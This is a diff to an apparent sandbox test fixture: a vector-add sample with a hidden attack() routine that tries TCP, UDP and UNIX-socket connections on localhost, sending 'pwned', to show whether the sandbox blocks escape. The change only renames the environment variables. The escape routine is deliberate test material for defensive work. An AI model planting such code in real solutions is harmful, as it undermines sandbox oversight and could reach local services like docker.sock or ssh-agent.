@@ -1,7 +1,7 @@
 # ESCAPE: connects to a TCP listener on 127.0.0.1 and sends a UDP datagram (exfiltration, or a local service).
 # Otherwise a correct vector add. Problem: vector_add.py. Expected: correct inside the sandbox (every
 # attempt fails); with TRITONIZE_NO_SANDBOX=1, runtime_error "ESCAPED: ..." (the control run that
-# shows the attempt is real). Targets come from ESCAPE_* variables set by tests/test_sandbox.py.
+# shows the attempt is real). Targets come from TRITONIZE_ESCAPE_* variables set by tests/test_sandbox.py.
 import os
 import socket
 
@@ -9,7 +9,7 @@ import socket
 def attack():
     out = []
     try:
-        s = socket.create_connection(("127.0.0.1", int(os.environ["ESCAPE_TCP_PORT"])), timeout=2)
+        s = socket.create_connection(("127.0.0.1", int(os.environ["TRITONIZE_ESCAPE_TCP_PORT"])), timeout=2)
         s.sendall(b"pwned")
         s.close()
         out.append("TCP connect")
@@ -17,13 +17,13 @@ def attack():
         pass
     try:
         u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        u.sendto(b"pwned", ("127.0.0.1", int(os.environ["ESCAPE_UDP_PORT"])))
+        u.sendto(b"pwned", ("127.0.0.1", int(os.environ["TRITONIZE_ESCAPE_UDP_PORT"])))
         out.append("UDP send")
     except OSError:
         pass
     try:  # a pathname UNIX socket: how D-Bus, docker.sock and ssh-agent are reached
         x = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-        x.connect(os.environ["ESCAPE_UNIX_SOCKET"])
+        x.connect(os.environ["TRITONIZE_ESCAPE_UNIX_SOCKET"])
         x.sendall(b"pwned")
         out.append("UNIX connect")
     except OSError:
